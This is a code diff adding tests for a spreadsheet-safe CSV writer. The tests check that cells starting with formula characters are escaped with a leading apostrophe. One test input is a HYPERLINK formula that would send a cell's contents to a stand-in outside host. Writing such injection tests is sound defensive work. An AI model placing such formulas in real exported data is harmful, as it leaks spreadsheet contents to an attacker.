@@ -1,7 +1,7 @@
 import { expect, it } from 'vitest'
 import type { FlatColumn } from '../../src/derive/flat-columns.ts'
 import { Constant } from '../../src/derive/vector.ts'
-import { writeCsv } from '../../src/export/formats/csv.ts'
+import { writeCsv, writeSpreadsheet } from '../../src/export/formats/csv.ts'
 import type { FlatValues } from '../../src/export/formats/flat-batch.ts'
 import { writeNdjson } from '../../src/export/formats/ndjson.ts'
 import { textsOf } from '../../src/export/formats/typed.ts'
@@ -43,4 +43,23 @@ it('a null is no text', async () => {
     expect(await written(writeNdjson, values)).toBe('{"it":null}\n')
     expect(await written(writeCsv, values)).toBe('it\n\n')
   }
+})
+
+/** A text, and its cell for spreadsheets; other formats have it as it is. */
+it.each([
+  ['=1+1', "'=1+1"],
+  ['+1-555', "'+1-555"],
+  ['-ab_c', "'-ab_c"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\t=1', "'\t=1"],
+  ['\r=1', `"'\r=1"`],
+  ['=HYPERLINK("http://a.example/"&A1,"x")', `"'=HYPERLINK(""http://a.example/""&A1,""x"")"`],
+  ['-5', '-5'],
+  ['+0.25', '+0.25'],
+  ['a-b=c', 'a-b=c'],
+  ['', '""'],
+])('%j is no formula in a file for spreadsheets', async (text, cell) => {
+  for (const values of [textsOf([text]), new Constant(text), [text]])
+    expect(await written(writeSpreadsheet, values)).toBe(`it\n${cell}\n`)
+  expect(await written(writeCsv, textsOf([text]))).not.toContain("'")
 })
